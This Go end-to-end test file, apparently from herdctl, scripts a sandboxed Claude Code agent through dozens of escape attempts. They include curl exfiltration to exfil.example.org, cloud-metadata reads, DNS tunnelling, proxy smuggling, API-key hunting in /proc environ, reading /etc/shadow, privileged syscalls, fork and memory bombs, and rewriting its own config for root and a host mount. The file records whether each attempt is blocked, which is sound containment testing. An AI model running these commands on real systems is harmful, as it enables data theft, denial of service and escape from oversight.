package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/herdctl/herdctl/internal/testbed"
	"github.com/herdctl/herdctl/service/api"
	"github.com/herdctl/herdctl/state"
)

// The attack fleet: every agent in a container with loopback only and the
// most permissive Claude Code mode; the stand-in API is served inside
// each job's own network namespace (see runAttackJob).
const attackFleet = `version = 1
env_file = "herdctl.env"
claude_path = "%s"

[fleet]
name = "attack"

[defaults]
permission_mode = "bypassPermissions"

[defaults.docker]
user = "1000:1000"
env = { CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = "1" }

[[agents]]
path = "/srv/herdctl/attacker/agent.toml"

[[agents]]
path = "/srv/herdctl/attacker-ro/agent.toml"

[[agents]]
path = "/srv/herdctl/bomber/agent.toml"

[[agents]]
path = "/srv/herdctl/leaker/agent.toml"
  [agents.overrides]
  max_cost_usd_per_day = 0.02
  [agents.overrides.docker]
  network = "egress"
  egress = ["allowed.test:47998"]
  egress_private = ["127.0.0.0/8"]

[[agents]]
path = "/srv/herdctl/victim/agent.toml"
  [agents.overrides]
  command = ["perl", "-MIO::Socket::INET", "-e", '$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:48000", Listen => 5, ReuseAddr => 1) or die $!; while ($c = $s->accept) { print $c "victim-secret\n"; close $c }']
`

// apiPort is where Claude Code finds the stand-in API in its container.
const apiPort = "47123"

// hostPort is a listener on the machine's own loopback that no agent was
// granted.
const hostPort = "47999"

// allowedPort is a listener on the machine's loopback that the leaker
// may reach, by the name allowed.test, through its egress proxy.
const allowedPort = "47998"

// egressAttacks are made by the leaker, an agent with network = "egress"
// allowed only allowed.test:47998, to get anything else out.
func egressAttacks() []attack {
	proxy := "127.0.0.1:3128"
	smuggle := func(id, first string) string {
		return v + `out=$(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("` + proxy + `") or die "proxy: $!"; print $s "` + first + `"; ` +
			`if ("` + first + `" =~ /^CONNECT/) { sysread($s, $h, 4096); print $s "GET / HTTP/1.1\r\nHost: 127.0.0.1:` + hostPort + `\r\nConnection: close\r\n\r\n" } ` +
			`local $/; $r = <$s>; $r =~ s/\r//g; print $h . $r' 2>&1); echo "$out" | grep -q host-secret && V ` + id + ` ESCAPED "$out" || V ` + id + ` BLOCKED "$out"`
	}
	return []attack{
		{"egress-unlisted", "exfiltrate to a name not on the list (https)", "403 from the proxy", tryIt("egress-unlisted", "curl -fsS -m 5 'https://exfil.example.org/?d=secret'")},
		{"egress-raw-ip", "exfiltrate to a raw IP address (http)", "403 from the proxy", tryIt("egress-raw-ip", "curl -fsS -m 5 http://1.1.1.1/")},
		{"egress-metadata", "read the cloud metadata service", "403 from the proxy", tryIt("egress-metadata", "curl -fsS -m 5 http://169.254.169.254/latest/meta-data/")},
		{"egress-port", "reach the host's loopback service through the listed name on another port", "403 from the proxy", tryIt("egress-port", "curl -fsS -m 5 http://allowed.test:"+hostPort+"/")},
		{"egress-direct", "connect straight out, without the proxy", "no route", tryIt("egress-direct", "curl -fsS -m 5 --noproxy '*' http://1.1.1.1/")},
		{"egress-dns", "tunnel data out through DNS (the container's resolver, or a resolver of its own)", "no answer, nothing sent",
			v + `a=$(getent hosts leak-data.exfil.example.org 2>&1; echo "getent exit $?"); b=$(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "1.1.1.1:53", Proto => "udp") or do { print "udp: $!"; exit 1 }; defined(send($s, "x" x 40, 0)) or do { print "send: $!"; exit 1 }; print "sent"'); out="$a; $b"; echo "$b" | grep -q '^sent' && V egress-dns ESCAPED "$out" || { echo "$a" | grep -q 'getent exit 0' && V egress-dns ESCAPED "$out" || V egress-dns BLOCKED "$out"; }`},
		{"egress-smuggle-connect", "smuggle a request for the host's loopback service inside a CONNECT tunnel to the listed name", "it reaches the listed service, not the host's",
			smuggle("egress-smuggle-connect", `CONNECT allowed.test:`+allowedPort+` HTTP/1.1
Host: allowed.test:`+allowedPort+`

`)},
		{"relay-key", "find the API key: every process's environment and every file it can read", "only the relay's placeholder",
			v + `a='sk-attack-'; b='not-a-real-key'; out=$( { cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -E "ANTHROPIC|$a$b"; grep -rl "$a$b" /etc /home /tmp /workspace /opt /run 2>/dev/null; } | sort -u | tr '\n' ' '); echo "$out" | grep -q "$a$b" && V relay-key ESCAPED "$out" || V relay-key BLOCKED "$out"`},
		{"relay-redirect", "make the relay carry the key to another host (a Host header, an absolute URL, a CONNECT)", "the relay only ever talks to the fleet's API",
			v + `out=$( { curl -sS -m 5 -H 'Host: allowed.test:` + allowedPort + `' http://127.0.0.1:3129/steal; curl -sS -m 5 -x http://127.0.0.1:3129 http://allowed.test:` + allowedPort + `/steal; curl -sS -m 5 -p -x http://127.0.0.1:3129 https://allowed.test:` + allowedPort + `/steal; } 2>&1 | tr '\n' ' '); echo "$out" | grep -q allowed-service && V relay-redirect ESCAPED "$out" || V relay-redirect BLOCKED "$out"`},
		{"egress-smuggle-pipelined", "pipeline a second request, for the host's loopback service, behind one to the listed name", "refused or sent to the listed service",
			smuggle("egress-smuggle-pipelined", `GET http://allowed.test:`+allowedPort+`/ HTTP/1.1
Host: allowed.test:`+allowedPort+`

GET http://127.0.0.1:`+hostPort+`/ HTTP/1.1
Host: 127.0.0.1:`+hostPort+`
Connection: close

`)},
	}
}

// attack is one escape attempt, run by the agent as one Bash tool call.
// The command prints VERDICT:<id>:BLOCKED|ESCAPED:<evidence>.
type attack struct {
	id, what, expected, command string
}

// v is the shell function every attack command starts with.
const v = `V() { printf 'VERDICT:%s:%s:%s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n\t' '  ' | cut -c1-150)"; }; `

// sc makes a raw system call with perl: exit 1 when the kernel refused it
// for lack of rights (EPERM, EACCES) or seccomp hid it (ENOSYS), 0 when
// it got past that.
const sc = `sc() { perl -e 'use Errno; my ($n, @a) = map { /^-?\d+$/ ? $_+0 : $_ } @ARGV; my $r = syscall($n, @a); print "ret=$r errno=".($!+0)." ($!)"; exit(($r == -1 && ($!{EPERM} || $!{EACCES} || $!{ENOSYS})) ? 1 : 0)' "$@"; }; `

// tryIt runs a command: success is an escape.
func tryIt(id, cmd string) string {
	return v + fmt.Sprintf(`out=$( %s 2>&1 ) && V %s ESCAPED "$out" || V %s BLOCKED "$out"`, cmd, id, id)
}

func perlTry(id, body string) string {
	return tryIt(id, "perl -e '"+body+"'")
}

// attacks lists the escape attempts. The canary (a secret in the env file
// that no agent is given) is never written whole in a command: commands
// are logged and kept in the agent's session.
func attacks(canary string) []attack {
	return []attack{
		{"mount", "mount a filesystem (setuid mount)", "refused", tryIt("mount", "mount -t tmpfs none /tmp")},
		{"unshare-user", "unshare -U (new user namespace)", "refused", tryIt("unshare-user", "unshare -U true")},
		{"unshare-mount", "unshare -m (new mount namespace)", "refused", tryIt("unshare-mount", "unshare -m true")},
		{"unshare-net", "unshare -n (new network namespace)", "refused", tryIt("unshare-net", "unshare -n true")},
		{"chroot", "chroot", "refused", tryIt("chroot", "/usr/sbin/chroot / true")},
		{"kernel-module", "load a kernel module (finit_module)", "EPERM", v + sc + `out=$(sc 313 0 "" 0) && V kernel-module ESCAPED "$out" || V kernel-module BLOCKED "$out"`},
		{"keyctl", "add a key to the session keyring (add_key)", "EPERM", v + sc + `out=$(sc 248 user k v 1 -3) && V keyctl ESCAPED "$out" || V keyctl BLOCKED "$out"`},
		{"io-uring", "set up an io_uring (io_uring_setup), whose queued operations bypass seccomp", "EPERM", v + sc + `out=$(sc 425 8 0) && V io-uring ESCAPED "$out" || V io-uring BLOCKED "$out"`},
		{"bpf", "create a BPF map (bpf)", "EPERM", v + `out=$(perl -e 'use Errno; $a = "\0" x 72; substr($a, 0, 16) = pack("LLLL", 1, 4, 4, 1); $r = syscall(321, 0, $a, 72); print "ret=$r errno=".($!+0)." ($!)"; exit(($r == -1 && ($!{EPERM} || $!{EACCES} || $!{ENOSYS})) ? 1 : 0)') && V bpf ESCAPED "$out" || V bpf BLOCKED "$out"`},
		{"perf", "open a perf event (perf_event_open)", "EPERM or EACCES", v + `out=$(perl -e 'use Errno; $a = "\0" x 128; substr($a, 4, 4) = pack("L", 128); $r = syscall(298, $a, 0, -1, -1, 0); print "ret=$r errno=".($!+0)." ($!)"; exit(($r == -1 && ($!{EPERM} || $!{EACCES} || $!{ENOSYS})) ? 1 : 0)') && V perf ESCAPED "$out" || V perf BLOCKED "$out"`},
		{"ptrace", "ptrace-attach to processes outside (every pid 1-3000 the container cannot see, threads included)", "none found", v + `out=$(perl -e 'my ($ok, $n) = (0, 0); for my $p (1 .. 3000) { next if -e "/proc/$p"; $n++; $ok++ if syscall(101, 16, $p, 0, 0) == 0 } print "attached to $ok of $n pids outside"; exit($ok ? 0 : 1)') && V ptrace ESCAPED "$out" || V ptrace BLOCKED "$out"`},
		{"setuid-passwd", "gain root through setuid passwd from the host's /usr", "refused", tryIt("setuid-passwd", "passwd -S root")},
		{"setuid-su", "su to root (setuid su from the host's /usr)", "refused", tryIt("setuid-su", "su -c id root </dev/null")},
		{"capabilities", "hold any capability", "all sets empty, no_new_privs, seccomp", v + `out=$(grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr '\n\t' '  '); echo "$out" | grep -q 'CapEff: 0000000000000000 CapBnd: 0000000000000000 NoNewPrivs: 1 Seccomp: 2' && V capabilities BLOCKED "$out" || V capabilities ESCAPED "$out"`},
		{"mknod", "make a block device node", "EPERM", tryIt("mknod", "mknod /tmp/sda b 8 0")},
		{"raw-socket", "open a raw IP socket", "refused", perlTry("raw-socket", `use Socket; socket(my $s, AF_INET, SOCK_RAW, 255) or do { print "$!"; exit 1 }; print "raw socket open"`)},
		{"packet-socket", "open a packet socket", "refused", perlTry("packet-socket", `socket(my $s, 17, 3, 0) or do { print "$!"; exit 1 }; print "packet socket open"`)},
		{"clock", "set the clock", "EPERM", tryIt("clock", "date -s @0")},
		{"hostname", "set the hostname", "EPERM", tryIt("hostname", "hostname evil")},
		{"read-shadow", "read /etc/shadow", "absent", v + `out=$(cat /etc/shadow 2>&1) && echo "$out" | grep -q 'root:' && V read-shadow ESCAPED "$out" || V read-shadow BLOCKED "$out"`},
		{"read-fleet", "read the fleet file and the env file", "absent", tryIt("read-fleet", "cat /etc/herdctl/herdctl.toml /etc/herdctl/herdctl.env")},
		{"read-secret", "find the env file's other secrets (files, environment of every process)", "absent", v + `a='` + canary[:10] + `'; b='` + canary[10:] + `'; out=$( { grep -rl "$a$b" /etc /home /tmp /workspace /opt /run /var 2>/dev/null; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep "$a$b"; } | head -3); [ -n "$out" ] && V read-secret ESCAPED "$out" || V read-secret BLOCKED "no trace of it"`},
		{"host-pid1", "read the host's /proc/1 (environ, cmdline)", "pid 1 is the agent itself", v + `out=$(tr '\0' ' ' < /proc/1/cmdline); echo "$out" | grep -qE 'systemd|herdctl.e2e' && V host-pid1 ESCAPED "$out" || V host-pid1 BLOCKED "pid 1 is: $out"`},
		{"host-processes", "see the host's processes (ps)", "only the container's", v + `out=$(ps -e -o comm= | sort -u | tr '\n' ' '); echo "$out" | grep -qE 'systemd|containerd|herdctl|dbus|journal' && V host-processes ESCAPED "$out" || V host-processes BLOCKED "sees only: $out"`},
		{"other-agent", "find another agent's workspace or home (canary files)", "absent", v + `out=$(find / \( -path /proc -o -path /sys \) -prune -o -name '*canary*' -print 2>/dev/null | head -3); [ -n "$out" ] && V other-agent ESCAPED "$out" || V other-agent BLOCKED "no canary file anywhere"`},
		{"herdctl-state", "read /var/lib/herdctl and /run/herdctl", "absent", tryIt("herdctl-state", "ls /var/lib/herdctl /run/herdctl")},
		{"containerd-socket", "reach the containerd socket", "absent", tryIt("containerd-socket", "ls -l /run/containerd/containerd.sock")},
		{"dbus-socket", "reach the system bus", "absent", tryIt("dbus-socket", "ls -l /run/dbus/system_bus_socket")},
		{"journal", "read the journal files or write to journald's socket", "absent", v + `out=$(ls -d /var/log/journal /run/log/journal /run/systemd/journal 2>&1) ; [ -e /var/log/journal ] || [ -e /run/log/journal ] || [ -e /run/systemd/journal ] && V journal ESCAPED "$out" || V journal BLOCKED "$out"`},
		{"write-outside", "write outside /workspace, /tmp and the agent's home", "read-only", v + `hits=""; for d in / /etc /usr /opt /home /var /root /run /srv /mnt /sbin; do touch "$d/escape-test" 2>/dev/null && hits="$hits $d"; done; [ -n "$hits" ] && V write-outside ESCAPED "wrote in$hits" || V write-outside BLOCKED "could not write in / /etc /usr /opt /home /var /root /run /srv /mnt /sbin"`},
		{"host-loopback", "reach a service on the host's 127.0.0.1", "refused", tryIt("host-loopback", "curl -sS -m 3 http://127.0.0.1:"+hostPort+"/")},
		{"other-container", "reach another agent's container (listening on its 127.0.0.1:48000)", "refused", tryIt("other-container", "curl -sS -m 3 http://127.0.0.1:48000/")},
		{"internet", "reach the internet (1.1.1.1)", "unreachable", tryIt("internet", "curl -sS -m 3 http://1.1.1.1/")},
		{"interfaces", "find a network interface besides loopback", "lo only", v + `out=$(ls /sys/class/net | tr '\n' ' '); [ "$out" = "lo " ] && V interfaces BLOCKED "interfaces: $out" || V interfaces ESCAPED "interfaces: $out"`},
		{"tmp-fill", "fill /tmp (1 GiB)", "stopped at the tmpfs size (256 MiB)", v + `out=$(dd if=/dev/zero of=/tmp/fill bs=1M count=1024 2>&1 | tail -1); size=$(stat -c %s /tmp/fill); rm -f /tmp/fill; [ "$size" -le 268435456 ] && V tmp-fill BLOCKED "$out; stopped at $size bytes" || V tmp-fill ESCAPED "$size bytes"`},
		{"fork-flood", "fork 2000 processes", "the pids limit (256) stops it", v + `out=$(perl -e 'my @k; for (1 .. 2000) { my $p = fork(); last unless defined $p; if (!$p) { sleep 30; exit } push @k, $p } print "forked ", scalar(@k), " of 2000 ($!)"; kill "KILL", @k; waitpid($_, 0) for @k; exit(@k == 2000 ? 0 : 1)') && V fork-flood ESCAPED "$out" || V fork-flood BLOCKED "$out"`},
	}
}

var verdictRe = regexp.MustCompile(`VERDICT:([a-z0-9-]+):(BLOCKED|ESCAPED|INFO):([^\n]*)`)

// verdicts reads the VERDICT lines out of the tool results the stand-in
// API received.
func verdicts(stand *testbed.API) map[string][2]string {
	out := map[string][2]string{}
	for _, s := range stand.Strings() {
		for _, m := range verdictRe.FindAllStringSubmatch(s, -1) {
			out[m[1]] = [2]string{m[2], strings.TrimSpace(m[3])}
		}
	}
	return out
}

// journalVerdicts finds the verdicts in a job's journal (journalctl -o
// json): in the stream lines Claude Code printed, decoded.
func journalVerdicts(out string) map[string][2]string {
	got := map[string][2]string{}
	for _, line := range strings.Split(out, "\n") {
		var e map[string]any
		if json.Unmarshal([]byte(line), &e) != nil {
			continue
		}
		raw, _ := e["HERDCTL_EVENT_JSON"].(string)
		var ev any
		if json.Unmarshal([]byte(raw), &ev) != nil {
			continue
		}
		var walk func(v any)
		walk = func(v any) {
			switch x := v.(type) {
			case string:
				for _, m := range verdictRe.FindAllStringSubmatch(x, -1) {
					got[m[1]] = [2]string{m[2], strings.TrimSpace(m[3])}
				}
			case []any:
				for _, y := range x {
					walk(y)
				}
			case map[string]any:
				for _, y := range x {
					walk(y)
				}
			}
		}
		walk(ev)
	}
	return got
}

// runAttackJob triggers a job of agent and serves the stand-in API with
// script inside the job's own network namespace, where Claude Code (which
// retries while the port is closed) finds it on 127.0.0.1. It returns the
// finished job.
func runAttackJob(m *testbed.Machine, agent string, script []testbed.Turn) (*api.Job, *testbed.API) {
	m.T.Helper()
	id := strings.TrimSpace(m.Run("herdctlctl", "trigger", agent))
	var taskPID string
	m.Eventually(30*time.Second, "the task of job "+id, func() bool {
		for _, line := range strings.Split(m.Run("ctr", "-n", "herdctl", "tasks", "ls"), "\n") {
			if f := strings.Fields(line); len(f) >= 3 && f[0] == "herdctl-"+id && f[2] == "RUNNING" {
				taskPID = f[1]
				return true
			}
		}
		return false
	})
	ln, err := testbed.ListenInNetnsAt(fmt.Sprintf("/proc/%d/root/proc/%s/ns/net", m.PID, taskPID), "127.0.0.1:"+apiPort)
	if err != nil {
		m.T.Fatalf("listening in job %s's network namespace: %v", id, err)
	}
	stand := testbed.ServeAPI(m.T, ln, script)
	var j api.Job
	m.Eventually(5*time.Minute, "job "+id+" to end", func() bool {
		m.CtlJSON(&j, "job", "--json", id)
		return api.Finished(j.Status)
	})
	return &j, stand
}

// runRelayedJob runs a job of an agent with network = "egress", whose
// Claude Code reaches the API through its job's relay: the relay dials the
// fleet's API (127.0.0.1:apiPort, as the env file says) from the machine,
// so the stand-in is served on the machine's loopback.
func runRelayedJob(m *testbed.Machine, agent string, script []testbed.Turn) (*api.Job, *testbed.API) {
	m.T.Helper()
	ln, err := testbed.ListenInNetns(m.PID, "127.0.0.1:"+apiPort)
	if err != nil {
		m.T.Fatalf("listening on the machine's loopback: %v", err)
	}
	stand := testbed.ServeAPI(m.T, ln, script)
	id := strings.TrimSpace(m.Run("herdctlctl", "trigger", agent))
	var j api.Job
	m.Eventually(5*time.Minute, "job "+id+" to end", func() bool {
		m.CtlJSON(&j, "job", "--json", id)
		return api.Finished(j.Status)
	})
	ln.Close()
	return &j, stand
}

// row is one line of docs/security.md.
type row struct{ what, expected, observed, verdict string }

func TestEscapeSuite(t *testing.T) {
	claude := testbed.RequireClaude(t)
	var b [8]byte
	rand.Read(b[:])
	canary := "canary" + hex.EncodeToString(b[:])
	m := testbed.HerdctlMachine(t, fmt.Sprintf(attackFleet, claude), map[string]string{
		"/srv/herdctl/attacker/agent.toml":                           "name = \"attacker\"\ndefault_prompt = \"go\"\n",
		"/srv/herdctl/attacker-ro/agent.toml":                        "name = \"attacker-ro\"\ndefault_prompt = \"go\"\n[docker]\nworkspace_mode = \"ro\"\n",
		"/srv/herdctl/bomber/agent.toml":                             "name = \"bomber\"\ndefault_prompt = \"go\"\n[docker]\nmemory = \"768m\"\n",
		"/srv/herdctl/victim/agent.toml":                             "name = \"victim\"\n",
		"/srv/herdctl/leaker/agent.toml":                             "name = \"leaker\"\ndefault_prompt = \"go\"\n",
		"/srv/herdctl/victim/victim-canary.txt":                      "the victim's workspace\n",
		"/var/lib/herdctl/agents/victim/home/victim-home-canary.txt": "the victim's home\n",
	})
	m.WriteFile("/etc/herdctl/herdctl.env", "ANTHROPIC_API_KEY=sk-attack-not-a-real-key\nANTHROPIC_BASE_URL=http://127.0.0.1:"+apiPort+"\nHERDCTL_TEST_CANARY="+canary+"\n", 0o600)
	m.Boot()
	// A service on the machine's loopback no agent was granted.
	ln, err := testbed.ListenInNetns(m.PID, "127.0.0.1:"+hostPort)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "host-secret") })}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	// The one service the leaker may reach, by name, through its proxy.
	m.Sh("echo '127.0.0.1 allowed.test' >> /etc/hosts")
	aln, err := testbed.ListenInNetns(m.PID, "127.0.0.1:"+allowedPort)
	if err != nil {
		t.Fatal(err)
	}
	var keyed atomic.Int32 // requests to the allowed service that carried a credential
	allowed := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.Header.Get("X-Api-Key") != "" || req.Header.Get("Authorization") != "" {
			keyed.Add(1)
		}
		fmt.Fprintln(w, "allowed-service")
	})}
	go allowed.Serve(aln)
	t.Cleanup(func() { allowed.Close() })
	m.Start()
	m.Run("herdctlctl", "trigger", "victim")

	var rows []row
	record := func(what, expected, observed string, blocked bool) {
		verdict := "blocked"
		if !blocked {
			verdict = "**ESCAPED**"
			t.Errorf("%s: escaped: %s", what, observed)
		}
		rows = append(rows, row{what, expected, observed, verdict})
	}

	// The escape suite proper: one Bash tool call per attack.
	list := attacks(canary)
	var script []testbed.Turn
	for _, a := range list {
		script = append(script, testbed.Turn{Tool: "Bash", Input: map[string]any{"command": a.command, "description": a.id}})
	}
	script = append(script, testbed.Turn{Text: "done"})
	job, stand := runAttackJob(m, "attacker", script)
	got := verdicts(stand)
	for _, a := range list {
		vd, ok := got[a.id]
		if !ok {
			record(a.what, a.expected, "no verdict (the tool call did not report)", false)
			continue
		}
		record(a.what, a.expected, vd[1], vd[0] == "BLOCKED")
	}
	if job.Status != api.StatusCompleted {
		t.Errorf("attacker job: %s (%s)", job.Status, job.ExitReason)
	}

	// Egress: the leaker may reach allowed.test:47998 and nothing else.
	leaks := egressAttacks()
	script = []testbed.Turn{{Tool: "Bash", Input: map[string]any{"command": v + `out=$(curl -fsS -m 5 http://allowed.test:` + allowedPort + `/ 2>&1); V egress-allowed INFO "$out"`}}}
	for _, a := range leaks {
		script = append(script, testbed.Turn{Tool: "Bash", Input: map[string]any{"command": a.command, "description": a.id}})
	}
	script = append(script, testbed.Turn{Text: "done"})
	lj, stand := runRelayedJob(m, "leaker", script)
	got = verdicts(stand)
	if ok := got["egress-allowed"]; !strings.Contains(ok[1], "allowed-service") {
		t.Errorf("the leaker could not reach its one allowed name, so its refusals prove nothing: %q", ok[1])
	}
	for _, a := range leaks {
		vd, ok := got[a.id]
		if !ok {
			record(a.what, a.expected, "no verdict (the tool call did not report)", false)
			continue
		}
		record(a.what, a.expected, vd[1], vd[0] == "BLOCKED")
	}
	if n := keyed.Load(); n > 0 {
		t.Errorf("%d requests with a credential reached the allowed service", n)
	}
	// The relay: the rest of the API the key opens, and spending past
	// the day's budget ($0.02; each request is $0.0006 at list price) by
	// calling it directly, which stops the job: the first verdict is read
	// from the job's journal, the second seen from outside.
	relayPaths := v + `out=$(for p in /v1/messages/batches /v1/files /v1/organizations/api_keys '/v1/messages/../../admin'; do curl -s -o /dev/null -w '%{http_code} ' -X POST --path-as-is "http://127.0.0.1:3129$p"; done; curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:3129/v1/models); echo "$out" | grep -qv '^\(403 \)*$' && V relay-paths ESCAPED "$out" || V relay-paths BLOCKED "answers: $out"`
	relaySpend := `for i in $(seq 60); do curl -s -o /dev/null -w '%{http_code} ' -X POST -H 'content-type: application/json' -d '{"model":"claude-sonnet-4-5","max_tokens":10,"stream":true,"messages":[{"role":"user","content":"bill"}]}' http://127.0.0.1:3129/v1/messages; done`
	bj, _ := runRelayedJob(m, "leaker", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": relayPaths}},
		{Tool: "Bash", Input: map[string]any{"command": relaySpend}},
		{Text: "done"}})
	bjournal, _ := m.Try("journalctl", "--namespace="+state.JournalNamespace, "--no-pager", "-o", "json", "HERDCTL_JOB="+bj.ID)
	pv, ok := journalVerdicts(bjournal)["relay-paths"]
	if !ok {
		pv = [2]string{"", "no verdict (the tool call did not report)"}
	}
	record("use the key through the relay for the rest of the API (batches, files, admin, models)", "403 for all: the relay forwards only the Messages API", pv[1], pv[0] == "BLOCKED")
	refused, _ := m.Try("sh", "-c", "journalctl --namespace="+state.JournalNamespace+" --no-pager -o cat HERDCTL_JOB="+bj.ID+" HERDCTL_API_STATUS=429 | wc -l")
	record("spend past the day's budget ($0.02) by calling the relay directly, 60 requests", "refused once the day's budget is spent, by the relay's own metering, and the job stopped with the reason",
		fmt.Sprintf("job %s: %s; the API billed $%.4f in %d requests; %s refusals logged", bj.Status, firstLine(bj.ExitReason), bj.APICostUSD, bj.APIRequests, strings.TrimSpace(refused)),
		bj.Status == api.StatusFailed && strings.HasPrefix(bj.ExitReason, "budget: ") && bj.APICostUSD <= 0.02+0.0007)

	denials, _ := m.Try("sh", "-c", "journalctl --namespace="+state.JournalNamespace+" --no-pager -o cat HERDCTL_JOB="+lj.ID+" HERDCTL_EGRESS=deny | wc -l")
	if n, _ := strconv.Atoi(strings.TrimSpace(denials)); n < 4 || lj.EgressDenied < 4 {
		t.Errorf("the leaker's refusals: %s deny entries in the journal, %d in the record", strings.TrimSpace(denials), lj.EgressDenied)
	}

	// A read-only workspace.
	_, stand = runAttackJob(m, "attacker-ro", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": tryIt("write-ro-workspace", "touch /workspace/x")}}, {Text: "done"}})
	vd := verdicts(stand)["write-ro-workspace"]
	record("write into a read-only workspace", "EROFS", orNone(vd[1]), vd[0] == "BLOCKED")

	// Resource attacks, each its own job.
	j, _ := runAttackJob(m, "bomber", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": `perl -e '$x = "a" x (3 * 2**30); print length($x)'; echo "exit $?"`}}, {Text: "done"}})
	record("memory bomb (3 GiB in a 768 MiB container)", "only the container's process is OOM-killed; the job is failed with the reason",
		fmt.Sprintf("job %s: %s", j.Status, j.ExitReason), j.Status == api.StatusFailed && strings.Contains(j.ExitReason, "OOM"))

	j, _ = runAttackJob(m, "bomber", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": `bash -c ':(){ :|:& };:'; echo bombed`}}, {Text: "done"}})
	alive, _ := m.Try("systemctl", "is-system-running")
	record("fork bomb", "the pids limit holds, the host stays responsive",
		fmt.Sprintf("job %s; the machine answers %q", j.Status, strings.TrimSpace(alive)), api.Finished(j.Status) && alive != "")

	j, stand = runAttackJob(m, "bomber", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": v + `head -c 1073741824 /dev/zero | tr '\0' x | fold -w 65536 > /proc/1/fd/1; V flood INFO "writing 1 GiB to the runner through /proc/1/fd/1: exit $?"`}}, {Text: "done"}})
	entries, err := m.Try("journalctl", "--namespace="+state.JournalNamespace, "--no-pager", "-o", "cat", "HERDCTL_JOB="+j.ID, "MESSAGE_ID="+state.MessageIDJobFinished)
	lines, _ := m.Try("sh", "-c", "journalctl --namespace="+state.JournalNamespace+" --no-pager -o cat HERDCTL_JOB="+j.ID+" | wc -l")
	record("1 GiB of output written straight to the runner's pipe (64 KiB lines)", "the runner and journald survive; at most 16 MiB (log_budget) reaches the jobs' journal; the job record is intact and says what was dropped",
		fmt.Sprintf("%s; job %s (%s), %d bytes not logged; %s journal entries for the job; journald still answers: %q", orNone(verdicts(stand)["flood"][1]),
			j.Status, j.ExitReason, j.OutputDropped, strings.TrimSpace(lines), strings.TrimSpace(entries)),
		api.Finished(j.Status) && err == nil && strings.Contains(entries, j.ID) && j.OutputDropped > 0)

	// The agent rewrites its own agent file (it is in its workspace) to
	// grant itself more: it is left out with every field named, the other
	// agents run on, and once the file is restored it runs exactly as
	// before.
	original, _ := os.ReadFile(m.Path("/srv/herdctl/attacker/agent.toml"))
	escalated := "name = \"attacker\"\ndefault_prompt = \"go\"\n[docker]\nnetwork = \"host\"\nvolumes = [\"/:/host\"]\nuser = \"0:0\"\nimage = \"docker.io/library/alpine:latest\"\n"
	runAttackJob(m, "attacker", []testbed.Turn{
		{Tool: "Write", Input: map[string]any{"file_path": "/workspace/agent.toml", "content": escalated}}, {Text: "done"}})
	if b, _ := os.ReadFile(m.Path("/srv/herdctl/attacker/agent.toml")); string(b) != escalated {
		t.Fatalf("the agent did not manage to rewrite its file: %q", b)
	}
	reloadCode, _ := m.ExitCode("systemctl", "reload", "herdctl")
	var st api.Status
	m.CtlJSON(&st, "status", "--json")
	var fields []string
	for _, ba := range st.BrokenAgents {
		for _, e := range ba.Errors {
			fields = append(fields, fmt.Sprintf("%s:%d %s", e.File, e.Line, e.Field))
		}
	}
	logged, _ := m.Try("journalctl", "--no-pager", "-u", "herdctl", "-o", "cat", "-p", "err")
	m.WriteFile("/srv/herdctl/attacker/agent.toml", string(original), 0o644)
	m.Sh("chown 1000:1000 /srv/herdctl/attacker/agent.toml")
	m.Run("systemctl", "reload", "herdctl")
	_, stand = runAttackJob(m, "attacker", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": v + `V after-rewrite INFO "uid $(id -u), interfaces: $(ls /sys/class/net | tr '\n' ' ')root: $(ls /host 2>&1 | head -1)"`}}, {Text: "done"}})
	after := verdicts(stand)["after-rewrite"][1]
	record("the agent rewrites its own agent file to grant itself network = host, volumes = [\"/:/host\"], user = \"0:0\" and an image; systemctl reload herdctl",
		"the agent is left out (its timers stop) with file:line for each field, logged, and systemctl reload fails; the others run on; restored, the next job runs exactly as before",
		fmt.Sprintf("reload exit %d; left out: %s; %d agents ran on; next job after the restore: %s", reloadCode, strings.Join(fields, ", "), st.Agents, after),
		reloadCode != 0 && len(fields) == 4 && st.Agents == 4 && strings.Contains(logged, "/srv/herdctl/attacker/agent.toml:") &&
			strings.HasPrefix(after, "uid 1000, interfaces: lo ") && strings.Contains(after, "No such file"))

	// The agent replaces its agent file by a link to a file only root may
	// read; the daemon, which reads agent files as root, must not.
	runAttackJob(m, "attacker", []testbed.Turn{
		{Tool: "Bash", Input: map[string]any{"command": "ln -sf /etc/shadow /workspace/agent.toml && ls -l /workspace/agent.toml"}}, {Text: "done"}})
	m.ExitCode("systemctl", "reload", "herdctl") // fails: the agent is left out
	m.CtlJSON(&st, "status", "--json")
	leftOut := ""
	for _, ba := range st.BrokenAgents {
		for _, e := range ba.Errors {
			leftOut += e.File + ":" + strconv.Itoa(e.Line) + ": " + e.Field + ": " + e.Message
		}
	}
	record("the agent replaces its agent file by a symbolic link to /etc/shadow; systemctl reload herdctl",
		"refused without reading the target (the agent is left out); nothing of it in status or the journal",
		leftOut, strings.Contains(leftOut, "symbolic link") && !strings.Contains(leftOut, "root:") && !strings.Contains(leftOut, "TOML"))

	// Secrets: the env file's values appear nowhere an operator or
	// another user can look.
	env, _ := os.ReadFile(m.Path("/etc/herdctl/herdctl.env"))
	secrets := []string{"sk-attack-not-a-real-key", canary}
